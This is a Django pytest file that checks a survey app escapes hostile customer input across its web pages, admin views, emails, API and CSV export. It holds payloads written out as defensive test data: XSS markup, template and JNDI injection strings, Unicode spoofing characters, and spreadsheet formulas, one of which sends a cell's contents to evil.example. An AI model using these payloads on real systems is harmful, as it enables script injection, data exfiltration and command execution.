"""What customers and colleagues write to hurt those who read it."""

import csv
import io
import re
from email import message_from_bytes, policy
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import timezone

from surveys.api import keys
from surveys.delivery import claim, emails
from surveys.loop import ask
from surveys.models import (
    ApiKey,
    Channel,
    Customer,
    Message,
    OutreachTask,
    Response,
    ResponseVersion,
    Suppression,
    Wave,
    Wording,
)
from tests.surveys.pages.pressing import press, seen

pytestmark = pytest.mark.django_db(transaction=True)  # a page's READ ONLY needs a real transaction
UNKNOWN = "a" * 26


def nothing_is_stored() -> bool:
    tables = (Response, ResponseVersion, OutreachTask, Suppression)
    return not any(model.objects.exists() for model in tables)


def parts_of(mail: bytes) -> tuple[str, str]:
    """HTML and text."""
    read = message_from_bytes(mail, policy=policy.default)
    html, plain = (read.get_body((kind,)) for kind in ("html", "plain"))
    return html.get_content(), plain.get_content()


def test_half_a_surrogate_pair_is_replaced(client, url):
    body = f"nonce={seen(url)}&score=3&comment=a%ED%A0%80b%FFc"
    form = "application/x-www-form-urlencoded"
    assert client.post(url, body, content_type=form).status_code == 200
    comment = Response.objects.get().comment
    assert comment.strip("\ufffdabc") == ""
    assert comment[0] + comment[-1] == "ac"


def test_a_comment_that_cannot_be_kept_whole_is_refused(client, url):
    for comment in ("a\0b", "😀" * 100_000, "x" * 5_001):
        page = press(client, url, score="3", comment=comment)
        assert (page.status_code, 'role="alert"' in page.text) == (422, True), comment[:3]
    assert nothing_is_stored()


MARKUP = (
    "\"'><script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)>"
    '<a href="javascript:alert(1)">x</a></textarea></bdi><x-evil>'
)
TEMPLATES = "{{7*7}} {% load static %} {% include 'x' %} ${jndi:ldap://x/a} {name.__class__} #{7*7}"


class Reader(HTMLParser):
    """What a browser would make of a page: its text, and the elements that only MARKUP has."""

    def __init__(self, page: str):
        super().__init__()
        self.text, self.evil = "", []
        self.feed(page)

    def handle_starttag(self, tag, attributes):
        values = [f"{name}={value}" for name, value in attributes]
        runs = [one for one in values if one.startswith("on") and "alert(1)" in one]
        leads = [one for one in values if one.startswith("href=javascript:")]
        self.evil += [tag] if tag == "x-evil" or runs or leads else []
        self.text += "".join(f" {value}" for name, value in attributes if name == "value")

    def handle_data(self, data):
        self.text += data


def test_the_reader_sees_what_is_not_escaped():
    """The control."""
    assert Reader(MARKUP).evil == ["img", "svg", "a", "x-evil"]


def shown_as_text(page: str, text: str) -> bool:
    read = Reader(page)
    return read.evil == [] and text in read.text


@pytest.mark.parametrize("text", [MARKUP, TEMPLATES], ids=["markup", "templates"])
def test_what_customers_write_is_shown_as_text_everywhere(
    client, url, manager, alice, text, settings, django_user_model
):
    settings.COMPANY = text
    Customer.objects.update(name=text[:200])
    Wording.objects.update(question="{name}", thanks="{company}")
    page = press(client, url, score="3", comment=text)
    assert shown_as_text(page.text, text)  # the comment, to be added to
    said = {"page": "more", "comment": text, "contact": "phone", "contact_time": text[:120]}
    assert shown_as_text(press(client, url, **said).text, text)  # the company thanks
    assert shown_as_text(client.get(url, {"change": ""}).text, text[:200])  # the question

    response, task = Response.objects.get(), OutreachTask.objects.get()
    notice = Message.objects.get(kind="task_opened")
    notice.message_id = claim.message_id(notice)
    assert b"Content-Type: text/html" not in emails.render(notice).content
    client.force_login(manager, backend="django.contrib.auth.backends.ModelBackend")
    for path in (f"response/{response.pk}/change/", f"outreachtask/{task.pk}/change/"):
        assert shown_as_text(client.get(f"/admin/surveys/{path}").text, text), path
    for path in ("response/", "outreachtask/", f"customer/{response.customer_id}/change/"):
        assert Reader(client.get(f"/admin/surveys/{path}").text).evil == [], path

    key = keys.issue("CRM", manager, ApiKey.Scope.READ, timezone.now())[1]
    told = client.get(
        f"/api/v1/responses/{response.pk}/", headers={"Authorization": f"Bearer {key}"}
    )
    assert (told["Content-Type"], told["X-Content-Type-Options"]) == ("application/json", "nosniff")
    assert told.json()["comment"] == text


@pytest.mark.parametrize("text", [MARKUP, TEMPLATES], ids=["markup", "templates"])
def test_what_customers_are_called_is_shown_as_text_in_their_mail(nps, account, text):
    one = Customer.objects.create(account=account, name=text[:200], email="c@lakeside.example")
    ask.invite(nps, [one], "test:1", timezone.now())
    message = Message.objects.get()
    message.message_id = claim.message_id(message)
    letter = emails.render(message)
    html, plain = parts_of(letter.content)
    assert shown_as_text(html, text[:200])
    assert text[:200] in plain


def test_templates_written_by_colleagues_fill_in_three_names_and_no_more(client, url, settings):
    walks = "{name.__class__.__mro__} {0} {company!r} {settings.SECRET_KEY} {% include 'x' %}"
    Wording.objects.update(question=walks + " {company}")
    assert shown_as_text(client.get(url).text, f"{walks} {settings.COMPANY}")
    assert settings.SECRET_KEY not in client.get(url).text


SPOOFS = "gnp.\u202egpj \u2066a\u2069 pass\u200bword\ufeff \x1b[31m\x08\x85 Z" + "\u0301" * 2_000
UNSEEN = set("\u202e\u2066\u2069\u200b\ufeff\x1b\x08\x85")


def test_spoofs_are_kept_apart_and_made_visible(client, url, manager):
    press(client, url, score="3", comment=SPOOFS)
    response, task = Response.objects.get(), OutreachTask.objects.get()
    assert response.comment == SPOOFS
    client.force_login(manager, backend="django.contrib.auth.backends.ModelBackend")
    for path in (f"response/{response.pk}/change/", f"outreachtask/{task.pk}/change/"):
        page = client.get(f"/admin/surveys/{path}").text
        assert not UNSEEN & set(page), path
        assert "gnp.[U+202E]gpj [U+2066]a[U+2069] pass[U+200B]word[U+FEFF]" in page, path
        assert re.search(r"<bdi[^>]*>gnp", page), path


FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
            "\t=1+1", "＝1+1"]  # fmt: skip


@pytest.mark.parametrize("hurt", [MARKUP, *FORMULAS])
def test_in_a_file_for_a_spreadsheet_nothing_runs_and_nothing_is_lost(
    client, manager, nps, account, customer, hurt
):
    account.name, customer.name = hurt, hurt
    account.save()
    customer.save()
    wave = Wave.objects.create(survey=nps, name="By hand", channel=Channel.LINK)
    ask.launch(wave, manager, timezone.now())
    ask.plan(timezone.now())
    client.force_login(manager, backend="django.contrib.auth.backends.ModelBackend")
    page = client.post(reverse("admin:surveys_wave_links", args=[wave.pk]))
    assert page["Content-Type"] == "text/csv; charset=utf-8"
    assert page["X-Content-Type-Options"] == "nosniff"
    assert page["Content-Disposition"].startswith("attachment;")
    text = page.getvalue().decode("utf-8-sig")
    [row] = csv.DictReader(io.StringIO(text, newline=""))
    shown = hurt if hurt == MARKUP else f"'{hurt}"
    assert (row["customer"], row["account"]) == (shown, shown)
    assert len(row) == len(text.splitlines()[0].split(","))  # no cell has become two
